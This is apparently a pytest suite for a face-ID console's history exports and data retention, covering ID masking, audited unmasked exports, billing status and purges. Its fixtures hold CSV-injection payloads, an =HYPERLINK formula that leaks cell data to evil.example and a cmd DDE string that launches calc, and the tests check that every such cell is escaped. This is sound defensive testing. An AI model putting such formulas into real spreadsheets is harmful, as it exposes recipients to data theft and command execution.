"""Exports mask ID numbers unless unmasking is chosen (and audited); retention purges images, then records."""

from __future__ import annotations

import csv
import datetime
import io
import json
import stat
from pathlib import Path

import pytest
import sqlalchemy as sa

from faceid_console.api.identity import mask_name
from faceid_console.store import CallKind, DecisionKind, HistoryFilter, HistoryStore, decisions, export
from faceid_console.store.retention import ImageRetention, RetentionPolicy
from faceid_console.store.schema import calls

NUMBER = "11010519491231002X"


def _entry(store: HistoryStore) -> int:
    entry = store.journal.begin(CallKind.VERIFY, "p", {"idcard_name": "张三丰", "idcard_number": NUMBER,
                                                       "uuid": "U-applicant-17"}, {"image": b"\xff\xd8photo"})
    store.journal.complete(entry, {"request_id": "req-1"})
    return entry


def test_csv_and_json_exports_mask_by_default(store: HistoryStore) -> None:
    _entry(store)
    out = io.StringIO()
    assert export.write(store.engine, HistoryFilter(), export.ExportFormat.CSV, out, operator="r") == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["idcard_number"] == "110***********002X" and row["idcard_name"] == "张*丰"
    assert row["uuid"] == "U-a…-17" and row["request_id"] == "req-1"
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, operator="r")
    [item] = json.loads(out.getvalue())
    assert item["idcard_number"] == "110***********002X"
    assert NUMBER not in out.getvalue() and "张三丰" not in out.getvalue()
    assert [e.action for e in store.audit_events()] == []  # a masked export needs no trail


def test_billing_of_an_entry_whose_outcome_is_unknown_is_exported_as_unknown_not_as_not_billed(
        store: HistoryStore) -> None:
    """A call whose answer never came (a time-out, a gateway's 504) or whose console stopped was exported billed
    false / "False", though it may have been billed: JSON says null (as the command line's error does), CSV "unknown";
    an entry written so before reads the same. A refusal keeps what the billing tables say."""
    from faceid_console.api.errors import GATEWAY_ERROR, NETWORK_TIMEOUT, ErrorOrigin, FaceIDError

    timed_out = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-timed-out"})
    store.journal.fail(timed_out, FaceIDError(NETWORK_TIMEOUT, origin=ErrorOrigin.TRANSPORT, message="no answer"))
    written_before = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-gateway"})
    store.journal.fail(written_before, FaceIDError(GATEWAY_ERROR, http_status=504, origin=ErrorOrigin.TRANSPORT))
    with store.engine.begin() as c:  # as fail() recorded it before
        c.execute(calls.update().where(calls.c.id == written_before).values(billed=False))
    store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-console-stopped"})  # pending: no answer recorded
    refused = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-no-record"})
    store.journal.fail(refused, FaceIDError("NO_SUCH_ID_NUMBER", http_status=400))  # billed, as documented
    no_face = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-no-face"})
    store.journal.fail(no_face, FaceIDError("NO_FACE_FOUND", "image", http_status=400))  # not billed
    with store.engine.connect() as c:
        assert c.execute(sa.select(calls.c.billed).where(calls.c.id == timed_out)).scalar_one() is None
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, operator="r", unmasked=True)
    billed = {e["uuid"]: e["billed"] for e in json.loads(out.getvalue())}
    assert billed == {"U-timed-out": None, "U-gateway": None, "U-console-stopped": None, "U-no-record": True,
                      "U-no-face": False}
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.CSV, out, operator="r", unmasked=True)
    billed = {r["uuid"]: r["billed"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert billed == {"U-timed-out": "unknown", "U-gateway": "unknown", "U-console-stopped": "unknown",
                      "U-no-record": "True", "U-no-face": "False"}


def test_unmasked_export_is_explicit_and_audited(store: HistoryStore, tmp_path: Path) -> None:
    _entry(store)
    path = tmp_path / "out.json"
    export.to_file(store.engine, HistoryFilter(text="002X"), export.ExportFormat.JSON, path, unmasked=True,
                   operator="auditor")
    assert json.loads(path.read_text("utf-8"))[0]["idcard_number"] == NUMBER
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    [event] = store.audit_events()
    assert (event.action, event.operator) == ("export.unmasked", "auditor")
    assert event.detail["rows"] == 1 and event.detail["filter"] == {"text": "002X"}
    assert event.detail["destination"] == str(path)


def test_a_csv_file_starts_with_a_byte_order_mark_for_excel_and_json_does_not(
        store: HistoryStore, tmp_path: Path) -> None:
    _entry(store)
    export.to_file(store.engine, HistoryFilter(), export.ExportFormat.CSV, tmp_path / "out.csv", operator="r")
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,created_at,")  # Excel then reads 张*丰 as UTF-8, not the code page
    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["idcard_name"] == "张*丰"
    export.to_file(store.engine, HistoryFilter(), export.ExportFormat.JSON, tmp_path / "out.json", operator="r")
    assert (tmp_path / "out.json").read_bytes().startswith(b"[")

#: Free text that a spreadsheet would run: a uuid typed or pasted from an applicant's file, ids and a profile.
FORMULAS = {"uuid": '=HYPERLINK("http://evil.example/?leak="&A1,"Open file")', "idcard_name": "+cmd|' /C calc'!A0",
            "biz_no": "-2+3", "biz_id": "@SUM(1+1)", "request_id": "\t=1+1", "profile": "\r=1+1",
            "operator": "=operator()"}


def _formula_entry(store: HistoryStore) -> None:
    from faceid_console.store.journal import Journal

    journal = Journal(store.engine, FORMULAS["operator"])
    entry = journal.begin(CallKind.VERIFY, FORMULAS["profile"], {
        "comparison_type": "0", "uuid": FORMULAS["uuid"], "idcard_name": FORMULAS["idcard_name"],
        "biz_no": FORMULAS["biz_no"], "biz_id": FORMULAS["biz_id"]})
    journal.complete(entry, {"request_id": FORMULAS["request_id"]})


def _cells(text: str) -> dict[str, str]:
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    return row


@pytest.mark.parametrize("unmasked", [False, True])
def test_no_csv_cell_starts_a_spreadsheet_formula_and_json_stays_exact(
        store: HistoryStore, tmp_path: Path, unmasked: bool) -> None:
    """OWASP's CSV injection: a uuid typed as =HYPERLINK(…) was exported as it was, and Excel (the file has a BOM
    for it) ran it on opening; masked, its first four characters still started the formula. Every text cell that
    would start one gets a ' before it; JSON keeps the values exact."""
    _formula_entry(store)
    path = tmp_path / "out.csv"
    export.to_file(store.engine, HistoryFilter(), export.ExportFormat.CSV, path, unmasked=unmasked, operator="r")
    row = _cells(path.read_bytes().decode("utf-8-sig"))  # as written: a \r in a cell stays one
    assert not [value for value in row.values() if value.startswith(("=", "+", "-", "@", "\t", "\r"))], row
    if unmasked:
        assert {key: row[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
    else:
        assert (row["uuid"], row["idcard_name"]) == ("'=HYP…le\")", "'" + mask_name(FORMULAS["idcard_name"]))
        assert row["biz_no"] == "'-2+3" and row["operator"] == "'=operator()"
    assert row["created_at"][:2] == "20" and row["kind"] == "verify"  # ordinary cells stay as they were
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, unmasked=True, operator="r")
    [item] = json.loads(out.getvalue())
    assert {key: item[key] for key in FORMULAS} == FORMULAS


def _exported(store: HistoryStore, *, unmasked: bool = False) -> tuple[list[dict[str, str]], list[dict[str, object]]]:
    """The CSV rows and the JSON items of an export of the whole history, newest entry first."""
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.CSV, out, unmasked=unmasked, operator="r")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    out = io.StringIO()
    export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, unmasked=unmasked, operator="r")
    return rows, json.loads(out.getvalue())


def test_the_current_decisions_reason_note_reviewer_and_time_follow_it_and_the_newest_wins(
        store: HistoryStore) -> None:
    """An auditor reads why, who and when beside the decision: the newest decision's (not the first's), nothing
    for an entry still undecided; the times are UTC with a Z, as the entry's own."""
    decided, undecided = _entry(store), _entry(store)
    store.decide(decided, DecisionKind.APPROVE, "Same person, documents consistent", "first look")
    newest = decisions.decide(store.engine, decided, DecisionKind.ESCALATE, "Needs a senior reviewer",
                              note="ID photo is 12 years old", operator="reviewer-2")
    rows, items = _exported(store)
    assert list(rows[0])[16:22] == ["current_decision", "decision_reason", "decision_note", "decided_by",
                                    "decided_at", "completed_at"]
    decided_at = newest.decided_at.isoformat(timespec="seconds") + "Z"
    by_id = {row["id"]: row for row in rows}
    assert {key: by_id[str(decided)][key] for key in export.DECISION_COLUMNS} == {
        "decision_reason": "Needs a senior reviewer", "decision_note": "ID photo is 12 years old",
        "decided_by": "reviewer-2", "decided_at": decided_at}
    assert by_id[str(decided)]["current_decision"] == "escalate"
    assert {key: by_id[str(undecided)][key] for key in export.DECISION_COLUMNS} == dict.fromkeys(
        export.DECISION_COLUMNS, "")
    items_by_id = {item["id"]: item for item in items}
    assert list(items_by_id[decided])[16:22] == list(rows[0])[16:22]
    assert {key: items_by_id[decided][key] for key in export.DECISION_COLUMNS} == {
        "decision_reason": "Needs a senior reviewer", "decision_note": "ID photo is 12 years old",
        "decided_by": "reviewer-2", "decided_at": decided_at}
    assert {key: items_by_id[undecided][key] for key in export.DECISION_COLUMNS} == dict.fromkeys(
        export.DECISION_COLUMNS)


def test_a_note_naming_the_applicant_is_masked_as_their_columns_unless_the_export_is_unmasked(
        store: HistoryStore) -> None:
    """A note may repeat the entry's name, ID number (typed with a small x, or in groups) and uuid: a masked export
    masks them as their columns do, a uuid made of the ID number masked whole; another applicant's name is not this
    entry's to mask. An unmasked export keeps the note exact."""
    uuid = f"{NUMBER}-KYC"
    entry = store.journal.begin(CallKind.VERIFY, "p", {"idcard_name": "张三丰", "idcard_number": NUMBER, "uuid": uuid})
    store.journal.complete(entry, {"request_id": "req-1"})
    note = f"张三丰 called back: {NUMBER.lower()} / 110105 19491231 002X, file {uuid.lower()}; not 李四光"
    store.decide(entry, DecisionKind.REJECT, "Different person", note)
    masked = "张*丰 called back: 110***********002X / 110***********002X, file 1101…-KYC; not 李四光"
    rows, items = _exported(store)
    assert rows[0]["decision_note"] == items[0]["decision_note"] == masked
    rows, items = _exported(store, unmasked=True)
    assert rows[0]["decision_note"] == items[0]["decision_note"] == note


def test_a_reason_note_or_reviewer_that_starts_a_formula_is_written_as_text_in_csv(store: HistoryStore) -> None:
    """The decision's cells are free text too (a team's own reason, a note, an operator name): CSV puts a ' before
    one that a spreadsheet would run, masked or not; JSON keeps them exact."""
    entry = _entry(store)
    reason, note, reviewer = "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)", "-reviewer"
    decisions.set_reasons(store.engine, [reason], operator="admin")
    decisions.decide(store.engine, entry, DecisionKind.REJECT, reason, note=note, operator=reviewer)
    for unmasked in (False, True):
        rows, items = _exported(store, unmasked=unmasked)
        assert (rows[0]["decision_reason"], rows[0]["decision_note"], rows[0]["decided_by"]) == (
            "'" + reason, "'" + note, "'" + reviewer)
        assert (items[0]["decision_reason"], items[0]["decision_note"], items[0]["decided_by"]) == (
            reason, note, reviewer)


def test_the_resend_links_are_exported_both_ways_in_the_one_streamed_read(store: HistoryStore) -> None:
    """An export said nothing of resends: an auditor saw a call of unknown outcome with no word of the entry that sent
    it again, as History and 'history list' say. Both links come last, null (empty in CSV) for neither, the latest
    resend as the list reads it; read in the entries' own statement, not one query per entry."""
    unknown = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"})  # no answer: its outcome is unknown
    again = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"}, resend_of=unknown)  # unknown too
    third = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"}, resend_of=again)
    store.journal.complete(third, {"request_id": "r-3"})
    plain = _entry(store)
    older = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"})
    with store.engine.begin() as c:  # a second resend of the first, as a history written before the lock may hold
        c.execute(calls.update().where(calls.c.id == older).values(resend_of=unknown))
    statements: list[str] = []

    def counted(_conn: object, _cursor: object, statement: str, *_args: object) -> None:
        statements.append(statement)

    sa.event.listen(store.engine, "before_cursor_execute", counted)
    try:
        rows, items = _exported(store)
    finally:
        sa.event.remove(store.engine, "before_cursor_execute", counted)
    assert len(statements) == 2  # one for the CSV, one for the JSON, whatever the number of entries
    links = {unknown: (None, older), again: (unknown, third), third: (again, None), plain: (None, None),
             older: (unknown, None)}
    assert {item["id"]: (item["resend_of"], item["resent_as"]) for item in items} == links
    assert {int(row["id"]): (row["resend_of"], row["resent_as"]) for row in rows} == {
        entry: tuple("" if link is None else str(link) for link in pair) for entry, pair in links.items()}
    assert list(rows[0])[-3:] == list(items[0])[-3:] == ["completed_at", "resend_of", "resent_as"]
    assert store.history.resends(list(links)) == {e: pair[1] for e, pair in links.items() if pair[1] is not None}


def test_an_export_that_fails_part_way_leaves_the_old_file_and_no_partial_one(
        store: HistoryStore, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _entry(store)
    path = tmp_path / "out.csv"
    path.write_text("yesterday's export", "utf-8")

    def broken_rows(*_args: object) -> object:
        yield export.row(store.history.entry(1), False)  # type: ignore[arg-type]
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_rows", broken_rows)
    with pytest.raises(OSError, match="No space left"):
        export.to_file(store.engine, HistoryFilter(), export.ExportFormat.CSV, path, operator="r")
    assert path.read_text("utf-8") == "yesterday's export"  # replaced only by a whole file
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_purge_drops_images_then_records_and_is_audited(store: HistoryStore) -> None:
    old, middle, fresh = _entry(store), _entry(store), _entry(store)
    now = datetime.datetime(2026, 6, 1)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == old).values(created_at=now - datetime.timedelta(days=400)))
        c.execute(calls.update().where(calls.c.id == middle).values(created_at=now - datetime.timedelta(days=40)))
        c.execute(calls.update().where(calls.c.id == fresh).values(created_at=now - datetime.timedelta(days=1)))
    store.set_retention(RetentionPolicy(ImageRetention.FULL, image_days=30, record_days=365))
    from faceid_console.store import retention

    report = retention.purge(store.engine, store.operator, now=now)
    assert (report.images_purged, report.records_purged) == (2, 1)  # old and middle photos; old record
    assert store.history.entry(old) is None
    [middle_image] = store.history.images(middle)
    assert middle_image.data is None and len(middle_image.sha256) == 64
    assert store.history.images(fresh)[0].data == b"\xff\xd8photo"
    actions = [e.action for e in store.audit_events()]
    assert actions[:2] == ["retention.purged", "retention.changed"]
    with store.engine.connect() as c:
        assert c.execute(sa.select(sa.func.count()).select_from(calls)).scalar_one() == 2


@pytest.mark.parametrize("entries", [0, 1, 3])
def test_a_json_export_is_written_an_entry_at_a_time_as_json_dump_would_write_the_list(
    store: HistoryStore, monkeypatch: pytest.MonkeyPatch, entries: int,
) -> None:
    """It built the whole list in memory first: a large history's export took memory as large as it."""
    for _ in range(entries):
        _entry(store)
    out = io.StringIO()
    rows = export._rows
    seen: list[dict[str, object]] = []

    def watched(*args: object) -> object:
        for item in rows(*args):  # type: ignore[arg-type]
            if seen:  # the entry before this one is already written when this one is read
                assert out.getvalue().count('"request_id"') == len(seen)
            seen.append(item)
            yield item

    monkeypatch.setattr(export, "_rows", watched)
    assert export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, operator="r") == entries
    assert out.getvalue() == json.dumps(seen, ensure_ascii=False, indent=2)
    assert len(json.loads(out.getvalue())) == entries


def test_a_record_purged_that_a_newer_entry_resent_is_purged_and_the_newer_entry_kept(store: HistoryStore) -> None:
    """The newer entry's resend_of pointed at the record purged: the purge failed on the foreign key (SQLite), nothing
    was purged, and every later Apply failed the same way."""
    old = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"})  # its outcome unknown: sent again below
    again = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"}, resend_of=old)
    store.journal.complete(again, {"request_id": "r-2"})
    now = datetime.datetime(2026, 6, 1)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == old).values(created_at=now - datetime.timedelta(days=40)))
        c.execute(calls.update().where(calls.c.id == again).values(created_at=now - datetime.timedelta(days=1)))
    from faceid_console.store import retention

    store.set_retention(RetentionPolicy(ImageRetention.FULL, 30, 30))
    report = retention.purge(store.engine, store.operator, now=now)
    assert report.records_purged == 1
    assert store.history.entry(old) is None
    kept = store.history.entry(again)
    assert kept is not None and kept.resend_of is None  # it names no entry that is gone
    purged = store.audit_events()[0]
    assert purged.action == "retention.purged" and purged.detail["resends_unlinked"] == 1
    # The trail still says which entry it sent again.
    assert [e.detail for e in store.audit_events(again) if e.action == "call.resent"] == [{"resend_of": old}]


def test_a_retention_whose_purge_fails_is_not_stored_nor_audited(store: HistoryStore) -> None:
    """The setting was stored and audited as changed before its purge ran: a purge that failed left a retention in
    force (and in the audit trail) that had not been applied."""
    entry = _entry(store)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == entry).values(
            created_at=datetime.datetime.now() - datetime.timedelta(days=400)))
    before = store.audit_events()
    _refuse_deleting_calls(store)
    with pytest.raises(sa.exc.DBAPIError, match="purge refused"):
        store.apply_retention(RetentionPolicy(ImageRetention.FULL, 30, 365))
    assert store.retention == RetentionPolicy()
    assert store.audit_events() == before
    assert store.history.images(entry)[0].data == b"\xff\xd8photo"  # its photo not purged either


def _refuse_deleting_calls(store: HistoryStore) -> None:
    """A database that refuses to delete a record (a trigger standing for a constraint or a permission)."""
    with store.engine.begin() as c:
        if store.engine.dialect.name == "sqlite":
            c.execute(sa.text("CREATE TRIGGER refuse_purge BEFORE DELETE ON calls "
                              "BEGIN SELECT RAISE(ABORT, 'purge refused'); END"))
        else:
            c.execute(sa.text("CREATE FUNCTION refuse_purge() RETURNS trigger LANGUAGE plpgsql AS "
                              "$$ BEGIN RAISE EXCEPTION 'purge refused'; END $$"))
            c.execute(sa.text("CREATE TRIGGER refuse_purge BEFORE DELETE ON calls "
                              "FOR EACH ROW EXECUTE FUNCTION refuse_purge()"))


@pytest.mark.parametrize("mode", [ImageRetention.THUMBNAIL, ImageRetention.NONE])
def test_a_smaller_form_of_photos_applies_to_the_photos_kept_already_and_is_counted_first(
        store: HistoryStore, faces: Path, mode: ImageRetention) -> None:
    """Choosing "Fingerprints only" (or "Thumbnails") and Apply left every full photo kept until then in place, and the
    confirmation counted only the photos past the age limit."""
    photo = (faces / "kit_1.jpg").read_bytes()
    fresh = store.journal.begin(CallKind.VERIFY, "p", {"uuid": "U-1"}, {"image": photo, "image_ref1": b"not a photo"})
    old = _entry(store)
    now = datetime.datetime(2026, 6, 1)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == fresh).values(created_at=now - datetime.timedelta(days=1)))
        c.execute(calls.update().where(calls.c.id == old).values(created_at=now - datetime.timedelta(days=100)))
    from faceid_console.store import retention

    policy = RetentionPolicy(mode, image_days=90, record_days=0)
    counted = retention.would_purge(store.engine, policy, now=now)
    assert counted == retention.PurgeReport(images_purged=1, records_purged=0, images_reduced=2)
    assert retention.apply(store.engine, policy, store.operator, now=now) == counted
    kept = {image.field: image for image in store.history.images(fresh)}
    assert kept["image"].data is None and kept["image_ref1"].data is None and len(kept["image"].sha256) == 64
    if mode is ImageRetention.THUMBNAIL:  # a thumbnail of the photo that decodes; the SHA-256 alone of the other
        assert kept["image"].thumbnail is not None and kept["image"].thumbnail.startswith(b"\xff\xd8")
    else:
        assert kept["image"].thumbnail is None
    assert kept["image_ref1"].thumbnail is None
    assert retention.would_purge(store.engine, policy, now=now) == retention.PurgeReport(0, 0, 0)  # nothing left
    assert store.audit_events()[0].detail["reduced"] == 2 and store.audit_events()[0].detail["automatic"] is False


def test_the_console_s_own_purge_applies_the_setting_in_force_and_says_it_was_automatic(store: HistoryStore) -> None:
    """Under "photos kept: 90 days" a 200-day-old entry kept its photos until someone pressed Apply."""
    entry = _entry(store)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == entry).values(
            created_at=datetime.datetime.now() - datetime.timedelta(days=200)))
    assert store.purge(automatic=True).images_purged == 1
    assert store.history.images(entry)[0].data is None
    [purged] = store.audit_events()
    assert purged.action == "retention.purged" and purged.detail["automatic"] is True
    assert store.purge(automatic=True).images_purged == 0 and len(store.audit_events()) == 1  # nothing: no entry
